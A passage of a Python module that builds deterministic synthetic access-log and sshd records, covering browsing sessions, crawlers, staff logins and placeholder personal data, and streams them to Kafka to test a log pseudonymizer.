"""Deterministic synthetic traffic: raw access-log and sshd records, as log shippers send them.

Everything here is written by us from the shape of the formats; no real log is copied. One seed
gives one byte-identical stream (pass ``start`` too: by default timestamps begin at the current time).

A stream mixes five populations (:class:`Population`), weighted by a :class:`TrafficMix`:

* **browsing**: about 200 returning visitors with stable public IPv4/IPv6 addresses from real ISP
  allocations in many countries (so a GeoIP database places them), real-looking browser user agents,
  sessions of page views with their assets, search/social/internal referrers, ``utm_*`` tags, logins,
  and the personal data that real URLs carry (``?email=``, reset tokens that are JWTs with an e-mail
  inside, ``/users/<id>/orders/<id>``) so the minimizer has something to remove. It also holds the
  internal traffic: load-balancer health checks and staff from ``10.x``, and deploy logins over ssh.
* **crawlers**: Googlebot, bingbot, AhrefsBot, ... from their operators' networks: robots.txt,
  sitemaps and many distinct paths.
* **brute_force**: two sources guessing sshd passwords (invalid users, rsyslog's
  ``message repeated N times`` folding) and one stuffing credentials into ``POST /login`` (401s).
* **scanner**: one source probing for secrets, admin panels, SQL injection, path traversal and
  log4shell, with zgrab, Nikto and sqlmap user agents.
* **malformed**: records that must go to quarantine, each built for one :class:`~transforms.errors.Reason`
  (truncated JSON, invalid UTF-8, ``999.1.2.3``, a line over 64 KiB, garbage, ...).

HTTP records are Apache combined lines or ECS JSON (Filebeat field names) in the ratio ``json_share``;
sshd records are syslog lines. Timestamps advance at ``events_per_second`` with jitter, and a few go
back by a few seconds, as real access logs do (a request is logged when it ends, stamped with its start).
"""

from __future__ import annotations

import asyncio
import base64
import ipaddress
import itertools
import math
import random
from collections import deque
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, fields
from datetime import UTC, datetime, timedelta
from enum import StrEnum
from urllib.parse import quote, quote_plus

import orjson
from aiokafka import AIOKafkaProducer

from config.settings import KafkaConnection
from pipeline.kafka_clients import client_options
from transforms.errors import ConfigError, Reason

__all__ = [
    "DEMO_MIX",
    "OVERSIZED_BYTES",
    "Population",
    "SampleRecord",
    "TrafficMix",
    "generate",
    "generate_for_demo",
    "generate_records",
    "produce",
]

ORIGIN = "https://shop.example.com"  # RFC 2606 name: the demo site never points at a real one
OVERSIZED_BYTES = 64 * 1024  # "oversized" records are longer than this: the policy's default max_record_bytes


class Population(StrEnum):
    """Who produced a record; the values are the :class:`TrafficMix` field names."""

    BROWSING = "browsing"
    CRAWLERS = "crawlers"
    BRUTE_FORCE = "brute_force"
    SCANNER = "scanner"
    MALFORMED = "malformed"


@dataclass(frozen=True)
class TrafficMix:
    """Relative weights of the populations (they need not add up to 1; a weight of 0 turns one off)."""

    browsing: float = 0.80
    crawlers: float = 0.10
    brute_force: float = 0.05
    scanner: float = 0.04
    malformed: float = 0.01

    def __post_init__(self) -> None:
        for f in fields(self):
            value = getattr(self, f.name)
            if not (isinstance(value, int | float) and math.isfinite(value) and value >= 0):
                raise ConfigError(f"TrafficMix.{f.name} must be a finite number >= 0, got {value!r}")
        if sum(self.weights()) <= 0:
            raise ConfigError("TrafficMix: at least one population needs a weight > 0")

    def weights(self) -> tuple[float, ...]:
        """The weights in :class:`Population` order."""
        return tuple(float(getattr(self, p.value)) for p in Population)


# More attacks and errors than real life, so that a short demo shows every output.
DEMO_MIX = TrafficMix(browsing=0.70, crawlers=0.10, brute_force=0.10, scanner=0.07, malformed=0.03)


@dataclass(frozen=True, slots=True)
class SampleRecord:
    """One generated record with the ground truth that tests and the demo score against."""

    value: bytes  # the record as a log shipper would put it on the input topic
    population: Population
    format: str  # "apache_combined", "ecs_json", "sshd_syslog", or "unknown" for some malformed records
    time: datetime  # the event time written into the record (UTC)
    # the client address written into the record, if any (for malformed records it may be invalid)
    source_ip: str | None = None
    # for malformed records: the quarantine reason the pipeline is expected to give; None otherwise
    reason: Reason | None = None


def generate(
    count: int | None,
    *,
    seed: int = 7,
    start: datetime | None = None,
    events_per_second: float = 50.0,
    mix: TrafficMix = TrafficMix(),  # frozen: a shared default is safe
    json_share: float = 0.3,
) -> Iterator[bytes]:
    """An iterator over ``count`` raw log records (``None``: without end), the same for the same arguments.

    ``start`` is the first event time (default: now, UTC; a naive datetime is taken as UTC).
    ``json_share`` is the fraction of HTTP records written as ECS JSON rather than Apache combined lines.
    Raises :class:`~transforms.errors.ConfigError` at once (not on first iteration) for bad arguments.
    """
    records = generate_records(
        count, seed=seed, start=start, events_per_second=events_per_second, mix=mix, json_share=json_share
    )
    return (record.value for record in records)


def generate_for_demo(
    count: int | None, *, seed: int = 7, start: datetime | None = None, events_per_second: float = 50.0
) -> Iterator[bytes]:
    """Like :func:`generate`, with :data:`DEMO_MIX` and more JSON, so that every output shows up early."""
    return generate(count, seed=seed, start=start, events_per_second=events_per_second, mix=DEMO_MIX, json_share=0.4)


def generate_records(
    count: int | None,
    *,
    seed: int = 7,
    start: datetime | None = None,
    events_per_second: float = 50.0,
    mix: TrafficMix = TrafficMix(),  # frozen: a shared default is safe
    json_share: float = 0.3,
) -> Iterator[SampleRecord]:
    """:func:`generate`, with each record's population, format, time, source IP and expected quarantine reason."""
    if count is not None and count < 0:
        raise ConfigError(f"count must be >= 0 or None (without end), got {count}")
    if not (math.isfinite(events_per_second) and events_per_second > 0):
        raise ConfigError(f"events_per_second must be > 0, got {events_per_second}")
    if not 0.0 <= json_share <= 1.0:
        raise ConfigError(f"json_share must be between 0 and 1, got {json_share}")
    if start is None:
        start = datetime.now(UTC)
    start = start.replace(tzinfo=UTC) if start.tzinfo is None else start.astimezone(UTC)
    return _generate(count, random.Random(seed), start, events_per_second, mix, json_share)


# Unacknowledged sends kept before waiting for the oldest: bounds memory when the broker is slow.
_MAX_IN_FLIGHT = 10_000


async def produce(
    bootstrap: str,
    topic: str,
    records: Iterable[bytes],
    *,
    rate: float | None = None,
    connection: KafkaConnection | None = None,
) -> int:
    """Send ``records`` to ``topic``, at most ``rate`` per second if given; returns how many the broker acknowledged.

    ``bootstrap`` is ``host:port[,host:port]`` or faust's ``kafka://host:port[;kafka://...]``. The topic must
    exist (brokers here run with ``auto.create.topics.enable=false``). Records carry no key: the source IP
    would be the natural one, but a key would be one more copy of personal data, visible to every tool that
    shows keys; without a key the producer spreads records over the partitions, and the worker does not need
    per-source ordering on the input. Raises the first delivery error.
    """
    if rate is not None and not (math.isfinite(rate) and rate > 0):
        raise ConfigError(f"rate must be > 0 records per second, or None for as fast as possible, got {rate}")
    producer = AIOKafkaProducer(
        bootstrap_servers=_bootstrap_servers(bootstrap),
        **client_options(connection or KafkaConnection()),
        client_id="pseudonymizer-traffic",
        acks="all",
        enable_idempotence=True,  # a retried batch is not written twice
        linger_ms=20,  # up to 20 ms of records share a request: fewer, larger batches at high rates
        max_batch_size=256 * 1024,
        max_request_size=2 * 1024 * 1024,  # room for the deliberately oversized records
    )
    await producer.start()
    in_flight: deque[asyncio.Future[object]] = deque()
    sent = 0
    try:
        loop = asyncio.get_running_loop()
        began = loop.time()
        for n, value in enumerate(records):
            if rate is not None:
                # Pace against the start time, not the previous send, so that slow sends do not add up.
                delay = began + n / rate - loop.time()
                if delay > 0:
                    await asyncio.sleep(delay)
            in_flight.append(await producer.send(topic, value))
            # Check finished deliveries as we go, so that an error stops a long run early.
            while in_flight and (in_flight[0].done() or len(in_flight) >= _MAX_IN_FLIGHT):
                await in_flight.popleft()
                sent += 1
        while in_flight:
            await in_flight.popleft()
            sent += 1
    finally:
        await producer.stop()
    return sent


def _bootstrap_servers(bootstrap: str) -> list[str]:
    servers = [part.strip().removeprefix("kafka://") for part in bootstrap.replace(";", ",").split(",")]
    servers = [s for s in servers if s]
    if not servers:
        raise ConfigError("bootstrap must name at least one host:port")
    return servers


# --- rendering -------------------------------------------------------------------------------------------

_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")  # not locale's


@dataclass(slots=True)
class _Request:
    """One HTTP request as the server saw it; rendered as an Apache combined line or ECS JSON."""

    ip: str
    method: str
    target: str  # path and query as sent on the wire (already percent-encoded by the client)
    status: int
    size: int
    referrer: str | None
    user_agent: str
    auth_user: str | None = None  # HTTP basic-auth user (Apache's %u)
    email: str | None = None  # the signed-in user, as applications log it into ECS ``user.email``


@dataclass(slots=True)
class _SshLine:
    ip: str
    host: str
    pid: int
    message: str


@dataclass(slots=True)
class _Broken:
    reason: Reason
    build: Callable[[datetime], tuple[bytes, str, str | None]]  # time -> (value, format, ip)


_Draft = _Request | _SshLine | _Broken


def _apache_escape(text: str) -> str:
    # mod_log_config escapes quotes and backslashes with a backslash, and non-printables as \xhh.
    out = []
    for ch in text:
        if ch in '"\\':
            out.append("\\" + ch)
        elif " " <= ch <= "~":
            out.append(ch)
        else:
            out.extend(f"\\x{b:02x}" for b in ch.encode("utf-8"))
    return "".join(out)


def _apache_time(t: datetime) -> str:
    return f"{t.day:02d}/{_MONTHS[t.month - 1]}/{t.year}:{t:%H:%M:%S} +0000"


def _ecs_time(t: datetime) -> str:
    return f"{t:%Y-%m-%dT%H:%M:%S}.{t.microsecond // 1000:03d}Z"


def _syslog_time(t: datetime) -> str:
    return f"{_MONTHS[t.month - 1]} {t.day:>2} {t:%H:%M:%S}"  # "Mar  3 10:00:01": no year, day space-padded


def _apache_combined(req: _Request, t: datetime) -> bytes:
    size = str(req.size) if req.size else "-"  # %b logs "-" for an empty body
    line = (
        f"{req.ip} - {req.auth_user or '-'} [{_apache_time(t)}] "
        f'"{_apache_escape(f"{req.method} {req.target} HTTP/1.1")}" {req.status} {size} '
        f'"{_apache_escape(req.referrer or "-")}" "{_apache_escape(req.user_agent)}"'
    )
    return line.encode("ascii")


def _ecs_document(req: _Request, t: datetime) -> dict[str, object]:
    request: dict[str, object] = {"method": req.method}
    if req.referrer:
        request["referrer"] = req.referrer
    doc: dict[str, object] = {
        "@timestamp": _ecs_time(t),
        "source": {"ip": req.ip},
        "url": {"original": req.target},
        "http": {
            "version": "1.1",
            "request": request,
            "response": {"status_code": req.status, "body": {"bytes": req.size}},
        },
        "user_agent": {"original": req.user_agent},
        "event": {"dataset": "nginx.access", "kind": "event"},
        "host": {"name": "web2"},
        "ecs": {"version": "8.11.0"},
    }
    if req.email or req.auth_user:
        user: dict[str, str] = {}
        if req.email:
            user["email"] = req.email
        if req.auth_user:
            user["name"] = req.auth_user
        doc["user"] = user
    return doc


def _ecs_json(req: _Request, t: datetime) -> bytes:
    return orjson.dumps(_ecs_document(req, t))


def _sshd_syslog(line: _SshLine, t: datetime) -> bytes:
    return f"{_syslog_time(t)} {line.host} sshd[{line.pid}]: {line.message}".encode("ascii")


def _render(draft: _Draft, t: datetime, population: Population, rng: random.Random, json_share: float) -> SampleRecord:
    if isinstance(draft, _Request):
        if rng.random() < json_share:
            return SampleRecord(_ecs_json(draft, t), population, "ecs_json", t, draft.ip)
        return SampleRecord(_apache_combined(draft, t), population, "apache_combined", t, draft.ip)
    if isinstance(draft, _SshLine):
        return SampleRecord(_sshd_syslog(draft, t), population, "sshd_syslog", t, draft.ip)
    value, fmt, ip = draft.build(t)
    return SampleRecord(value, population, fmt, t, ip, draft.reason)


# --- the world: who is out there --------------------------------------------------------------------------

# Residential and mobile ISP allocations, weighted roughly like a European/US shop's audience. The country
# is what DB-IP says (checked by tests/pipeline/test_traffic.py where ../shared/data is present).
_ISP_V4: tuple[tuple[str, str, float], ...] = (
    ("73.0.0.0/8", "US", 12),  # Comcast
    ("99.224.0.0/11", "CA", 3),  # Rogers
    ("79.192.0.0/10", "DE", 9),  # Deutsche Telekom
    ("84.128.0.0/10", "DE", 5),  # Deutsche Telekom
    ("86.128.0.0/10", "GB", 7),  # BT
    ("90.0.0.0/9", "FR", 6),  # Orange
    ("83.32.0.0/11", "ES", 3),  # Telefonica
    ("151.16.0.0/12", "IT", 3),  # Wind Tre
    ("84.24.0.0/13", "NL", 3),  # Vodafone NL
    ("83.0.0.0/11", "PL", 2),  # Orange Polska
    ("78.160.0.0/11", "TR", 2),  # Turk Telekom
    ("95.24.0.0/13", "RU", 1),  # Vimpelcom
    ("126.0.0.0/8", "JP", 3),  # SoftBank
    ("121.128.0.0/10", "KR", 1),  # Korea Telecom
    ("116.224.0.0/12", "CN", 1),  # China Telecom
    ("117.192.0.0/10", "IN", 2),  # BSNL
    ("49.36.0.0/14", "IN", 2),  # Reliance Jio
    ("113.160.0.0/11", "VN", 1),  # VNPT
    ("36.64.0.0/11", "ID", 1),  # Telkom Indonesia
    ("1.128.0.0/11", "AU", 2),  # Telstra
    ("177.32.0.0/11", "BR", 2),
    ("187.128.0.0/10", "MX", 1),
    ("105.112.0.0/12", "NG", 1),  # Airtel Nigeria
    ("41.0.0.0/11", "ZA", 1),  # Vodacom
    # Networks that MaxMind's test databases also cover, so the demo shows cities with those small files.
    ("81.2.69.160/27", "GB", 1),
    ("89.160.20.128/25", "SE", 1),
    ("216.160.83.56/29", "US", 0.5),
    ("175.16.199.0/24", "CN", 0.5),
)
_ISP_V6: tuple[tuple[str, str, float], ...] = (
    ("2601::/20", "US", 4),  # Comcast
    ("2003::/19", "DE", 4),  # Deutsche Telekom
    ("2a01:cb00::/24", "FR", 2),  # Orange
    ("2a01:e00::/26", "FR", 1),  # Free
    ("2a00:23c0::/27", "GB", 2),  # BT
    ("2400:4050::/30", "JP", 1),  # NTT
    ("2001:218::/32", "JP", 0.5),  # also in MaxMind's test databases
)
_IPV6_SHARE = 0.2

_BOTS: tuple[tuple[str, tuple[str, ...], tuple[str, ...], float], ...] = (
    # name, user agents, operator networks, weight
    (
        "Googlebot",
        (
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ),
        ("66.249.64.0/19",),
        35,
    ),
    (
        "bingbot",
        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",),
        ("157.55.39.0/24", "40.77.167.0/24"),
        20,
    ),
    ("AhrefsBot", ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",), ("54.36.148.0/23",), 15),
    (
        "SemrushBot",
        ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",),
        ("185.191.171.0/24",),
        10,
    ),
    ("YandexBot", ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",), ("5.255.253.0/24",), 7),
    (
        "Applebot",
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
            "Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
        ),
        ("17.241.0.0/16",),
        6,
    ),
    (
        "GPTBot",
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",),
        ("20.171.207.0/24",),
        7,
    ),
)

_SSH_ATTACK_NETS = ("218.92.0.0/16", "61.177.172.0/24")  # Chinanet ranges, as often seen in sshd logs
_HTTP_ATTACK_NET = "141.98.11.0/24"  # a hosting network (LT)
_SCANNER_NET = "45.148.10.0/24"  # a hosting network

_FIRST_NAMES = (
    "alice", "bob", "carla", "deniz", "emma", "farid", "grace", "hiro", "ines", "jonas", "kemal", "lea",
    "mateo", "nadia", "oliver", "priya", "quentin", "rosa", "sven", "tanvir", "ulla", "victor", "wen", "yara",
)  # fmt: skip
_LAST_NAMES = (
    "andersen", "becker", "costa", "dubois", "eriksson", "fischer", "garcia", "huang", "ivanova", "jensen",
    "kowalski", "lopez", "martin", "nakamura", "okafor", "patel", "rossi", "schmidt", "tanaka", "weber",
)  # fmt: skip
_MAIL_DOMAINS = ("example.com", "example.org", "example.net")  # RFC 2606: no real mailbox

_CATEGORIES = ("men", "women", "kids", "footwear", "outerwear", "accessories", "sale", "new-arrivals")
_PRODUCT_A = ("trail", "merino", "waterproof", "ultralight", "classic", "insulated", "recycled", "packable", "alpine")
_PRODUCT_B = (
    "running-shoe", "hiking-boot", "rain-jacket", "wool-socks", "fleece", "backpack", "beanie", "base-layer",
    "down-vest", "gloves", "water-bottle", "headlamp",
)  # fmt: skip
_BLOG = (
    "how-to-choose-hiking-boots", "layering-guide", "caring-for-merino", "trail-running-for-beginners",
    "weekend-packing-list", "waterproof-ratings-explained", "winter-camping-basics",
)  # fmt: skip
_HELP = ("shipping", "returns", "sizing", "payment", "contact", "gift-cards")
_SEARCHES = ("rain jacket", "wool socks size 42", "gift card", "kids boots", "sale", "gore-tex", "headlamp battery")
_CAMPAIGNS = ("spring_sale", "black_friday", "new_arrivals", "winter_clearance", "newsletter_42")
_SEARCH_ENGINES = (
    "https://www.google.com/", "https://www.google.de/", "https://www.bing.com/", "https://duckduckgo.com/",
    "https://www.ecosia.org/", "https://search.yahoo.co.jp/",
)  # fmt: skip
_SOCIAL = (
    ("facebook", "https://l.facebook.com/"), ("instagram", "https://l.instagram.com/"),
    ("twitter", "https://t.co/"), ("reddit", "https://www.reddit.com/"),
)  # fmt: skip
_ELSEWHERE = (
    "https://forum.example.org/t/best-rain-jacket-2024/4411", "https://blog.example.net/gear-review",
    "https://news.example.com/outdoor/top-10", "android-app://com.google.android.gm/",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class _Visitor:
    ip: str
    user_agent: str
    uid: int | None = None  # the account, if the visitor has one
    email: str | None = None
    staff: str | None = None  # basic-auth user name for the internal admin area


@dataclass(frozen=True, slots=True)
class _Product:
    id: int
    slug: str


@dataclass
class _World:
    visitors: list[_Visitor]
    visitor_weights: list[float]
    staff: list[_Visitor]
    health_checkers: list[_Visitor]
    deploy_ip: str
    office: _Visitor  # a staff member's public address, for ssh logins from outside
    products: list[_Product]
    assets: dict[str, tuple[str, int]]  # name -> (path, size)
    jwt_exp: int


def _address(rng: random.Random, network: str) -> str:
    net = ipaddress.ip_network(network)
    if net.version == 4:
        while True:
            ip = net[rng.randrange(net.num_addresses)]
            if int(ip) & 0xFF not in (0, 255):  # a client address, not one that looks like a network's
                return str(ip)
    # A residential IPv6 client: a /64 of the ISP's range with a random (privacy-extension) interface id.
    prefix_bits = 64 - net.prefixlen
    subnet = int(net.network_address) | (rng.getrandbits(prefix_bits) << 64)
    return str(ipaddress.IPv6Address(subnet | rng.getrandbits(64)))


def _browser(rng: random.Random) -> str:
    chrome = rng.randint(124, 131)
    firefox = rng.randint(115, 133)
    ios = rng.choice(("17_5", "17_6", "18_0", "18_1"))
    safari = ios.split("_")[0] + "." + ios.split("_")[1]
    choices = (
        (30, f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             f"Chrome/{chrome}.0.0.0 Safari/537.36"),
        (8, f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{chrome}.0.0.0 Safari/537.36"),
        (20, f"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
             f"Chrome/{chrome}.0.0.0 Mobile Safari/537.36"),
        (15, f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
             f"Version/{safari} Mobile/15E148 Safari/604.1"),
        (2, f"Mozilla/5.0 (iPad; CPU OS {ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
            f"Version/{safari} Mobile/15E148 Safari/604.1"),
        (6, f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
            f"Version/{safari} Safari/605.1.15"),
        (8, f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{chrome}.0.0.0 Safari/537.36 Edg/{chrome}.0.0.0"),
        (5, f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{firefox}.0) Gecko/20100101 Firefox/{firefox}.0"),
        (2, f"Mozilla/5.0 (X11; Linux x86_64; rv:{firefox}.0) Gecko/20100101 Firefox/{firefox}.0"),
        (1, f"Mozilla/5.0 (Android 14; Mobile; rv:{firefox}.0) Gecko/{firefox}.0 Firefox/{firefox}.0"),
        (4, "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) "
            "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36"),
    )  # fmt: skip
    return rng.choices([ua for _, ua in choices], weights=[w for w, _ in choices])[0]


def _email(rng: random.Random) -> str:
    first, last = rng.choice(_FIRST_NAMES), rng.choice(_LAST_NAMES)
    local = rng.choice((f"{first}.{last}", f"{first}{rng.randint(1, 99)}", f"{first[0]}{last}"))
    return f"{local}@{rng.choice(_MAIL_DOMAINS)}"


def _build_world(rng: random.Random, start: datetime) -> _World:
    v4_nets, v4_weights = [n for n, _, _ in _ISP_V4], [w for _, _, w in _ISP_V4]
    v6_nets, v6_weights = [n for n, _, _ in _ISP_V6], [w for _, _, w in _ISP_V6]
    visitors = []
    for _ in range(200):
        if rng.random() < _IPV6_SHARE:
            ip = _address(rng, rng.choices(v6_nets, weights=v6_weights)[0])
        else:
            ip = _address(rng, rng.choices(v4_nets, weights=v4_weights)[0])
        has_account = rng.random() < 0.6
        visitors.append(
            _Visitor(
                ip=ip,
                user_agent=_browser(rng),
                uid=rng.randint(10_000, 99_999) if has_account else None,
                email=_email(rng) if has_account else None,
            )
        )
    # A few visitors come back often and most only now and then (Zipf-like), as on a real site.
    weights = [1.0 / (rank + 1) ** 0.8 for rank in range(len(visitors))]
    staff = [
        _Visitor(f"10.20.{rng.randint(0, 3)}.{rng.randint(2, 254)}", _browser(rng), staff=name)
        for name in ("alice.m", "ops-bob", "c.dubois")
    ]
    office = _Visitor(_address(rng, "79.192.0.0/10"), _browser(rng), staff="alice.m")
    health = [
        _Visitor("10.0.1.5", "kube-probe/1.30"),
        _Visitor("10.0.2.5", "kube-probe/1.30"),
        _Visitor(f"10.0.0.{rng.randint(10, 250)}", "ELB-HealthChecker/2.0"),
    ]
    slugs = [f"{a}-{b}" for a in _PRODUCT_A for b in _PRODUCT_B]
    products = [_Product(1000 + i, slug) for i, slug in enumerate(rng.sample(slugs, 60))]

    def digest() -> str:
        return f"{rng.getrandbits(32):08x}"

    assets = {
        "css": (f"/static/css/main.{digest()}.css", 48_213),
        "vendor": (f"/static/js/vendor.{digest()}.js", 412_877),
        "app": (f"/static/js/app.{digest()}.js", 183_090),
        "font": ("/static/fonts/inter-var.woff2", 97_448),
        "favicon": ("/favicon.ico", 4_286),
    }
    return _World(
        visitors=visitors,
        visitor_weights=weights,
        staff=staff,
        health_checkers=health,
        deploy_ip=f"10.0.3.{rng.randint(2, 254)}",
        office=office,
        products=products,
        assets=assets,
        jwt_exp=int(start.timestamp()) + 3600,
    )


def _token(rng: random.Random, nbytes: int = 16) -> str:
    return rng.randbytes(nbytes).hex()


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _jwt(rng: random.Random, world: _World, visitor: _Visitor) -> str:
    # A password-reset token: signed, not encrypted, so the e-mail inside is readable by anyone with the log.
    header = _b64url(b'{"alg":"HS256","typ":"JWT"}')
    payload = _b64url(
        orjson.dumps({"sub": str(visitor.uid), "email": visitor.email, "purpose": "reset", "exp": world.jwt_exp})
    )
    return f"{header}.{payload}.{_b64url(rng.randbytes(32))}"


# --- browsing --------------------------------------------------------------------------------------------


def _page(rng: random.Random, world: _World) -> str:
    r = rng.random()
    if r < 0.40:
        product = rng.choice(world.products)
        if rng.random() < 0.15:
            return f"/products/{product.slug}?color={rng.choice(('black', 'blue', 'olive'))}&size={rng.choice('SML')}"
        return f"/products/{product.slug}"
    if r < 0.60:
        category = rng.choice(_CATEGORIES)
        if rng.random() < 0.3:
            return f"/category/{category}?page={rng.randint(2, 6)}&sort={rng.choice(('price_asc', 'new'))}"
        return f"/category/{category}"
    if r < 0.70:
        return f"/search?q={quote_plus(rng.choice(_SEARCHES))}"
    if r < 0.78:
        return f"/blog/{rng.choice(_BLOG)}"
    if r < 0.85:
        return f"/help/{rng.choice(_HELP)}"
    if r < 0.93:
        return "/"
    return "/cart"


def _landing(rng: random.Random, world: _World, visitor: _Visitor) -> tuple[str, str | None]:
    """Where a session starts and what referred it; some entry links carry personal data."""
    r = rng.random()
    page = _page(rng, world)
    sep = "&" if "?" in page else "?"
    campaign = rng.choice(_CAMPAIGNS)
    if r < 0.35:
        return page, rng.choice(_SEARCH_ENGINES)
    if r < 0.55:
        return rng.choice(("/", page)), None
    if r < 0.65:
        target = f"{page}{sep}utm_source=newsletter&utm_medium=email&utm_campaign={campaign}"
        if visitor.email and rng.random() < 0.5:
            target += f"&email={quote(visitor.email, safe='')}"  # mail tools append the recipient
        return target, None
    if r < 0.73:
        source, referrer = rng.choice(_SOCIAL)
        return (
            f"{page}{sep}utm_source={source}&utm_medium=social&utm_campaign={campaign}&fbclid=IwAR{_token(rng, 20)}",
            referrer,
        )
    if r < 0.80:
        return f"{page}{sep}gclid={_b64url(rng.randbytes(24))}", "https://www.google.com/"
    if r < 0.92:
        return page, rng.choice(_ELSEWHERE)
    if visitor.email is None:
        return page, None
    if r < 0.96:
        return f"/reset?token={_jwt(rng, world, visitor)}", None
    if r < 0.98:
        return f"/newsletter/confirm?email={quote(visitor.email, safe='')}&token={_token(rng)}", None
    return f"/?email={visitor.email}", None  # browsers leave "@" unencoded in a query


def _session(rng: random.Random, world: _World, visitor: _Visitor) -> Iterator[_Request]:
    """One visit: landing page, assets, further pages, maybe a login, account pages and a checkout."""
    email: str | None = None  # set once signed in

    def request(
        target: str, *, status: int = 200, size: int | None = None, referrer: str | None = None, method: str = "GET"
    ) -> _Request:
        if size is None:
            size = rng.randint(18_000, 92_000) if status == 200 else rng.randint(0, 600)
        return _Request(visitor.ip, method, target, status, size, referrer, visitor.user_agent, email=email)

    def assets(page_url: str, first: bool) -> Iterator[_Request]:
        names = ["css", "vendor", "app", "font"] + (["favicon"] if first else [])
        for name in names:
            path, size = world.assets[name]
            if first:
                yield request(path, size=size, referrer=page_url)
            elif rng.random() < 0.25:  # the cache revalidates now and then
                yield request(path, status=304, size=0, referrer=page_url)
        for _ in range(rng.randint(0, 4)):
            product = rng.choice(world.products)
            image = f"/static/img/products/{product.slug}-{rng.randint(1, 4)}.webp"
            yield request(image, size=rng.randint(20_000, 240_000), referrer=page_url)

    target, referrer = _landing(rng, world, visitor)
    pages = rng.randint(1, 8)
    for n in range(pages):
        r = rng.random()
        status = 404 if r < 0.02 else 500 if r < 0.023 else 200
        yield request(target, status=status, referrer=referrer)
        page_url = ORIGIN + target
        if status == 200:
            yield from assets(page_url, first=n == 0)
            if target.startswith("/products/") and rng.random() < 0.5:
                product = rng.choice(world.products)
                yield request(
                    f"/api/recommendations?product={product.id}", size=rng.randint(600, 4000), referrer=page_url
                )
        if target.startswith("/reset?"):
            # The reset form posts back to the tokenised URL; the next page's referrer still carries the token.
            yield request(target, method="POST", status=302, size=0, referrer=page_url)
            target, referrer = "/login", page_url
            continue
        referrer = page_url
        r = rng.random()
        if email is None and visitor.email and r < 0.15:
            yield request("/login", referrer=referrer)
            if rng.random() < 0.06:  # a typo
                yield request("/login", method="POST", status=401, size=1_024, referrer=ORIGIN + "/login")
            yield request("/login", method="POST", status=302, size=0, referrer=ORIGIN + "/login")
            email = visitor.email
            target, referrer = "/account", ORIGIN + "/login"
        elif email is not None and r < 0.45:
            order = rng.randint(100, 9_999)
            target = rng.choice(
                ("/account/orders", f"/users/{visitor.uid}/orders/{order}", f"/users/{visitor.uid}/profile", "/account")
            )
            if rng.random() < 0.3:
                yield request(f"/api/users/{visitor.uid}/addresses", size=rng.randint(300, 1200), referrer=referrer)
        elif r < 0.52:
            order = rng.randint(100, 9_999)
            yield request("/api/cart", method="POST", status=201, size=rng.randint(200, 800), referrer=referrer)
            yield request("/checkout", referrer=ORIGIN + "/cart")
            yield request("/checkout", method="POST", status=303, size=0, referrer=ORIGIN + "/checkout")
            target, referrer = f"/checkout/confirmation?order={order}", ORIGIN + "/checkout"
        else:
            target = _page(rng, world)


def _staff_session(rng: random.Random, world: _World, staff: _Visitor) -> Iterator[_Request]:
    """Internal staff on the admin area over the VPN: basic auth, and customer look-ups by e-mail."""
    referrer: str | None = None
    for _ in range(rng.randint(2, 8)):
        customer = rng.choice(world.visitors)
        target = rng.choice(
            (
                f"/admin/orders?page={rng.randint(1, 20)}",
                f"/admin/customers/{customer.uid or rng.randint(10_000, 99_999)}",
                f"/admin/customers?email={quote(customer.email or _email(rng), safe='')}",
                "/admin/",
            )
        )
        size = rng.randint(8_000, 60_000)
        yield _Request(staff.ip, "GET", target, 200, size, referrer, staff.user_agent, auth_user=staff.staff)
        referrer = ORIGIN + target


def _deploy_ssh(rng: random.Random, world: _World) -> Iterator[_SshLine]:
    """A legitimate login: the deploy job from inside, or a staff member from the office."""
    pid, port = rng.randint(2_000, 60_000), rng.randint(32_768, 60_999)
    host = rng.choice(("web1", "web2"))
    fingerprint = _b64url(rng.randbytes(32))
    if rng.random() < 0.7:
        ip, user, key = world.deploy_ip, "deploy", "ED25519"
    else:
        ip, user, key = world.office.ip, "alice", "RSA"
    yield _SshLine(
        ip, host, pid, f"Accepted publickey for {user} from {ip} port {port} ssh2: {key} SHA256:{fingerprint}"
    )
    yield _SshLine(ip, host, pid, f"Received disconnect from {ip} port {port}:11: disconnected by user")
    yield _SshLine(ip, host, pid, f"Disconnected from user {user} {ip} port {port}")


